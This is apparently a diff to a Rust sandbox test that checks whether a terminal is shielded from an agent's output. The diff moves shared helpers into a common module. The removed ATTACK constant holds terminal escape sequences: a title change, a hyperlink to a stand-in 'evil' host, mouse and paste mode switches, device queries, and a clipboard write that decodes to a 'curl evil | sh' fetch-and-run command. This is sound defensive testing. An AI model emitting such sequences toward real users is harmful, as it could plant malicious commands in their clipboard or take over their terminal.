@@ -9,45 +9,10 @@ use std::io::Write;
 use std::process::Stdio;
 
 use common::sandbox::Domain;
-use common::{ESCALATE as ESC, STANDARD_PATH, Tmux, shell_quote, text};
-
-/// What the agent writes: clipboard (OSC 52), title, hyperlink, mouse and
-/// cursor modes, bracketed paste, and device queries (DA, OSC 10/11,
-/// XTVERSION, ENQ), among text and colour.
-const ATTACK: &[u8] = b"before\n\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b]2;pwned-title\x07\
-\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\\n\x1b[?1000h\x1b[?1006h\x1b[?1003h\x1b[?25l\x1b[?2004h\
-\x1b[c\x1b[>c\x1b]11;?\x07\x1b]10;?\x07\x1b[>0q\x05\x1b[1;31mred-text\x1b[0m\nafter-attack\n";
-
-/// `printf` of `bytes`, every byte that is not a letter or digit in octal.
-fn printf(bytes: &[u8]) -> String {
-    let mut s = String::from("printf '");
-    for b in bytes {
-        if b.is_ascii_alphanumeric() {
-            s.push(char::from(*b));
-        } else {
-            s.push_str(&format!("\\{b:03o}"));
-        }
-    }
-    s.push('\'');
-    s
-}
-
-/// The pane's mouse, cursor and paste modes, its title and the paste
-/// buffers tmux holds (set by OSC 52 when `set-clipboard` is on).
-fn terminal_state(t: &Tmux) -> (String, String, String) {
-    let modes = t.format(
-        "mouse=#{mouse_standard_flag}#{mouse_button_flag}#{mouse_any_flag}#{mouse_sgr_flag} cursor=#{cursor_flag} alt=#{alternate_on}",
-    );
-    let title = t.format("#{pane_title}");
-    let buffers = t.tmux(&["list-buffers"]);
-    (modes, title, buffers)
-}
-
-const CLEAN_MODES: &str = "mouse=0000 cursor=1 alt=0";
-
-/// After the program in the pane: show its exit code, then read the
-/// terminal's input for a second and show every byte that arrived.
-const AFTER: &str = "echo EXIT=$?; stty -icanon -echo min 0 time 10; head -c 300 | od -An -c | sed 's/^/INPUT:/'; echo INPUT-END; sleep 120";
+use common::{
+    AFTER_INPUT_CHECK as AFTER, ATTACK, CLEAN_MODES, ESCALATE as ESC, STANDARD_PATH, Tmux, printf,
+    shell_quote, terminal_state, text,
+};
 
 fn exec_guards_the_terminal(profile: &'static str) {
     let d = Domain::new(profile);
